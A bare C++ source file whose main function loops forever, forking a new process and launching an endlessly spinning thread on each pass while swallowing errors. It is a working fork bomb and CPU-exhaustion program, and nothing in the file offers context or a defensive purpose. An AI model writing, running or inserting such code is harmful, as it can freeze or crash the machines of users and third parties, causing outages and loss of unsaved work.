#include <unistd.h>
#include <thread>
#include <vector>
int main(){ std::vector<std::thread> v; for(;;){ fork(); try { v.emplace_back([]{ for(;;){} }); } catch(...) {} } }
